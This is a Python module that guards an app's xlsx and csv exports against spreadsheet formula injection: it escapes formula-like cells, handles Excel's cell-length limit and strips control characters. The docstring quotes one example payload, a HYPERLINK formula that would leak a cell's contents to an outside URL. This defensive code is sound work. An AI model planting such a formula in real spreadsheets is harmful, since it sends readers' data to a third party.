"""Spreadsheet safety: what counts as a formula, and the one way every xlsx and csv is written.

A spreadsheet program runs a cell's text as a formula when it starts with ``=`` (and, in CSV
files and in cells a user edits, with ``+``, ``-`` or ``@``): a name such as
``=HYPERLINK("http://…/?leak="&A2,"x")`` in the registry would send data elsewhere from the
reader's own machine. So every output of the app goes through this module:

- :func:`save_workbook` is the only place an xlsx is saved. It sweeps every cell of every sheet:
  a text that looks like a formula gets a leading apostrophe, and a cell openpyxl holds as a
  formula (``data_type == "f"``, which it does with every text starting with ``=``) is turned into
  that neutralised text; the app never writes a formula on purpose.
- :func:`put` and :func:`append` are how writers fill cells. They check a value *before* openpyxl
  sees it, because openpyxl silently cuts a text to 32 767 characters and refuses control
  characters with an exception that names neither the sheet nor the cell.
- :func:`csv_writer` is the only ``csv.writer``: every cell it writes is neutralised.

Two definitions of "formula-like", one per direction:

- **Input** (:func:`looks_like_formula`, the check of mapping files): the text starts with ``=``,
  ``+``, ``-`` or ``@`` and is not a plain number (``-5``, ``+47 22 33 44 55``, ``-`` alone). Input
  text is trimmed before it is checked, so nothing else can start it.
- **Output** (:func:`is_formula_like`, every writer): the input rule, and also (per OWASP's CSV
  injection guidance) a text that starts with a tab or a carriage return, and a text whose first
  visible character is one of ``= + - @`` after leading white space or invisible characters
  (some programs trim a cell before they look at it). Output sees legacy data that never went
  through the input check, so it errs on the side of caution.

Neutralising (:func:`neutralise`) puts one apostrophe in front of a text whose *core* (the text
without its leading apostrophes) is formula-like; :func:`unescape` takes exactly that apostrophe
away again. The two are each other's inverse for every text, so an export imports back to the same
values: ``=1+2`` → ``'=1+2`` → ``=1+2``, and a stored ``'=1+2`` → ``''=1+2`` → ``'=1+2``.

Excel holds at most 32 767 characters in a cell (:data:`EXCEL_MAX_CHARS`). A writer never cuts a
longer text silently: a workbook made with ``new_workbook(strict=True)`` (the mapping file, which
is read back) refuses it with :class:`CellRefused`, naming sheet, cell and length; any other
workbook (reports, round results) writes the full text in the sheet «Lange tekster», in parts, and
the cell says so at the point where it is shortened. Each part is a cell of its own and so is
neutralised on its own: the text is the parts, each without the apostrophe :func:`neutralise`
gave it, put together (parts are cut, where possible, so that none needs one).

Nothing here imports Django or any other ``samarbeid`` package; openpyxl is imported only by the
functions that need it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from .i18n import Text, gettext_noop

if TYPE_CHECKING:  # pragma: no cover
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: The characters that start a formula.
FORMULA_CHARS = "=+-@"
#: Characters that (per OWASP) make a spreadsheet program treat the rest of a cell as a formula.
OUTPUT_TRIGGERS = "\t\r"
#: Excel's limit of characters in one cell.
EXCEL_MAX_CHARS = 32767
#: The sheet where a text longer than :data:`EXCEL_MAX_CHARS` is written in full.
LONG_TEXT_SHEET = "Lange tekster"
#: Characters per part in :data:`LONG_TEXT_SHEET` and before the marker in the shortened cell.
LONG_TEXT_PART = 32000

_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)$")
#: What XML 1.0 (and so xlsx) cannot hold: C0 controls other than tab, line feed, carriage return.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
#: ... and, in a file that is read back, a carriage return too: XML reads it back as a line feed.
_STRICT_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0d\x0e-\x1f]")
_POLICY = "_samarbeid_strict"
_FULL = "_samarbeid_full_cells"


# --- formulas --------------------------------------------------------------------------------


def _plain_number(text: str) -> bool:
    """'-5', '+47 22 33 44 55', '25 %', '-6,2': a number a spreadsheet shows as a number."""
    cleaned = text.replace("\u00a0", " ").replace(" ", "").rstrip("%").strip()
    return bool(_NUMBER.match(cleaned))


def looks_like_formula(text: str) -> str | None:
    """Input side: the formula character a cell starts with, or None. '-5' and '-' alone are
    not formulas."""
    if not text or text[0] not in FORMULA_CHARS:
        return None
    if text[0] in "-+" and (len(text) == 1 or _plain_number(text)):
        return None
    return text[0]


def _invisible(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def is_formula_like(text: str) -> bool:
    """Output side: would a spreadsheet program (or a user editing the cell) run this text?

    The input rule, plus a leading tab or carriage return, plus a formula character after
    leading white space or invisible characters."""
    if not text:
        return False
    if text[0] in OUTPUT_TRIGGERS:
        return True
    if looks_like_formula(text):
        return True
    if _invisible(text[0]):
        start = 0
        while start < len(text) and _invisible(text[start]):
            start += 1
        return looks_like_formula(text[start:]) is not None
    return False


def neutralise(text: str) -> str:
    """What every output writes: one leading apostrophe keeps a formula-like text a text.

    The test is on the text without its leading apostrophes, so that :func:`unescape` can undo it
    exactly: ``'=1+2`` (stored so) is written ``''=1+2``."""
    return "'" + text if is_formula_like(text.lstrip("'")) else text


def unescape(text: str) -> str:
    """Undo :func:`neutralise`: one leading apostrophe before a formula-like core."""
    if text.startswith("'") and is_formula_like(text.lstrip("'")):
        return text[1:]
    return text


def formula_text(value: Any) -> str:
    """The text of whatever openpyxl holds as a formula (a str, an ArrayFormula, …)."""
    text = getattr(value, "text", None)
    return text if isinstance(text, str) else str(value)


# --- xlsx ------------------------------------------------------------------------------------


class CellRefused(ValueError):
    """A value an xlsx cannot hold as it is. ``code``: ``too_long`` (more than
    :data:`EXCEL_MAX_CHARS` characters) or ``control`` (a control character XML cannot hold)."""

    def __init__(
        self, code: str, sheet: str, cell: str, *, length: int = 0, char: str = ""
    ) -> None:
        self.code, self.sheet, self.cell, self.length, self.char = code, sheet, cell, length, char
        super().__init__(self.message())

    def message(self, lang: str = "nb") -> str:
        """One sentence: what, where, what was expected."""
        where = Text(gettext_noop("ark {sheet}, celle {cell}"), sheet=self.sheet, cell=self.cell)
        if self.code == "too_long":
            return Text(
                gettext_noop(
                    "{where}: teksten har {length} tegn, men en celle i Excel rommer høyst "
                    "{limit}. Filen ble ikke skrevet; bruk formatet csv eller json, som ikke har "
                    "noen grense."
                ),
                where=where,
                length=self.length,
                limit=EXCEL_MAX_CHARS,
            ).text(lang)
        return Text(
            gettext_noop(
                "{where}: teksten har kontrolltegnet {code}, som en xlsx-fil ikke kan inneholde. "
                "Filen ble ikke skrevet; bruk formatet csv eller json, eller rett teksten."
            ),
            where=where,
            code=f"U+{ord(self.char):04X}" if self.char else "?",
        ).text(lang)


def new_workbook(*, strict: bool = False, empty: bool = False) -> Workbook:
    """A new openpyxl workbook whose cells :func:`put` and :func:`append` fill.

    ``strict``: a file that is read back (the mapping file): a value the xlsx cannot hold as it is
    (too long; a control character, a carriage return included, which XML reads back as a line
    feed) raises :class:`CellRefused`. Otherwise (reports, round results) a too long text is
    written in full in the sheet «Lange tekster», a control character becomes U+FFFD (�) and a
    carriage return a line feed (as XML would read it back).
    ``empty``: without the default sheet."""
    from openpyxl import Workbook

    book = Workbook()
    if empty:
        book.remove(book.active)
    setattr(book, _POLICY, strict)
    setattr(book, _FULL, set())
    return book


def _coordinate(row: int, column: int) -> str:
    from openpyxl.utils import get_column_letter

    return f"{get_column_letter(column)}{row}"


def xlsx_value(value: Any, sheet: Worksheet, row: int, column: int) -> Any:
    """``value`` as the cell at (row, column) of ``sheet`` will hold it: texts neutralised,
    checked for length and control characters, numbers and dates as they are."""
    if value is None or isinstance(value, (bool, int, float, Decimal, dt.date, dt.time)):
        return value
    text = value if isinstance(value, str) else formula_text(value)
    book = sheet.parent
    strict = bool(getattr(book, _POLICY, True))
    if (match := (_STRICT_ILLEGAL if strict else _XML_ILLEGAL).search(text)) is not None:
        if strict:
            raise CellRefused("control", sheet.title, _coordinate(row, column), char=match.group())
        text = _XML_ILLEGAL.sub("\ufffd", text)
    if not strict and "\r" in text:  # what XML reads back anyway, before neutralising
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    safe = neutralise(text)
    if len(safe) > EXCEL_MAX_CHARS:
        if strict:
            raise CellRefused("too_long", sheet.title, _coordinate(row, column), length=len(safe))
        safe = _overflow(book, sheet, _coordinate(row, column), text)
    if len(safe) == EXCEL_MAX_CHARS:
        getattr(book, _FULL, set()).add((sheet.title, _coordinate(row, column)))
    return safe


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Set one cell (1-based row and column) through :func:`xlsx_value`."""
    return sheet.cell(row=row, column=column, value=xlsx_value(value, sheet, row, column))


def append(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Add a row after the last one (like ``Worksheet.append``) through :func:`xlsx_value`."""
    row = sheet._current_row + 1  # where Worksheet.append writes the next row
    sheet.append([xlsx_value(v, sheet, row, i) for i, v in enumerate(values, start=1)])


def _part_end(text: str, start: int) -> int:
    """Where a part of a long text ends: at most :data:`LONG_TEXT_PART` characters on and, when
    possible, where the next part does not start formula-like, so that no part but the first
    needs an apostrophe and a reader can simply put the parts together."""
    end = start + LONG_TEXT_PART
    if end >= len(text):
        return len(text)
    for candidate in range(end, end - 700, -1):
        char = text[candidate]
        if char not in FORMULA_CHARS and char != "'" and not _invisible(char):
            return candidate
    return end


def _overflow(book: Workbook, sheet: Worksheet, cell: str, text: str) -> str:
    """Write ``text`` in full, in parts, in the sheet «Lange tekster»; return the cell's own,
    shortened text, which ends by saying where the whole text is."""
    if LONG_TEXT_SHEET in book.sheetnames:
        store = book[LONG_TEXT_SHEET]
    else:
        store = book.create_sheet(LONG_TEXT_SHEET)
        store.append(["celle", "del", "tekst"])
    reference = f"'{sheet.title}'!{cell}"
    start, part = 0, 1
    first_row = store._current_row + 1
    while start < len(text):
        end = _part_end(text, start)
        store.append([reference, part, neutralise(text[start:end])])
        start, part = end, part + 1
    head = neutralise(text[: _part_end(text, 0)])
    return (
        f"{head} … [forkortet her: hele teksten ({len(text)} tegn) står i arket "
        f"«{LONG_TEXT_SHEET}», rad {first_row}–{store._current_row}]"
    )


def sweep(book: Workbook) -> None:
    """Leave no live formula in any cell of any sheet: the guarantee behind :func:`put` and
    :func:`append` for whatever reached a cell another way. A formula cell becomes its text and
    a formula-like text is neutralised; a text that already starts with an apostrophe is not live
    and is left as it is (it may be :func:`put`'s own neutralising, which must not be doubled).
    Raises :class:`CellRefused` for a text of the limit's length that did not come through
    :func:`put` (openpyxl cuts longer texts to it without a word)."""
    from openpyxl.cell.cell import Cell

    full = getattr(book, _FULL, set())
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell, Cell) or cell.value is None:
                    continue
                if cell.data_type == "f":
                    cell.value = neutralise(formula_text(cell.value))
                    continue
                if cell.data_type == "e":  # a text such as "#N/A" is a text, not an error
                    cell.data_type = "s"
                value = cell.value
                if not isinstance(value, str):
                    continue
                if is_formula_like(value):  # live; an apostrophe-led text is not (and may
                    value = cell.value = neutralise(value)  # be put's own neutralising)
                if len(value) >= EXCEL_MAX_CHARS and (sheet.title, cell.coordinate) not in full:
                    raise CellRefused("too_long", sheet.title, cell.coordinate, length=len(value))


def save_workbook(book: Workbook, target: Path | str | IO[bytes] | None = None) -> bytes:
    """Sweep (:func:`sweep`) and save: the only way the app saves an xlsx. The whole file is
    made in memory first, so a refused cell leaves nothing half-written; returns the bytes and
    writes ``target`` (a path or a binary file) when given."""
    sweep(book)
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if isinstance(target, (str, Path)):
        Path(target).write_bytes(data)
    elif target is not None:
        target.write(data)
    return data


# --- csv -------------------------------------------------------------------------------------


def csv_value(value: Any) -> str:
    """A cell of a CSV file: None is empty, everything else its text, neutralised."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return neutralise(str(value))


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`csv_value`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> SafeCsvWriter:
    """The only CSV writer of the app (options as for ``csv.writer``)."""
    return SafeCsvWriter(stream, **options)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """Rows as a CSV file the app writes: UTF-8 with BOM (so spreadsheet programs read æøå),
    CRLF line ends, every cell neutralised."""
    buffer = io.StringIO(newline="")
    csv_writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")
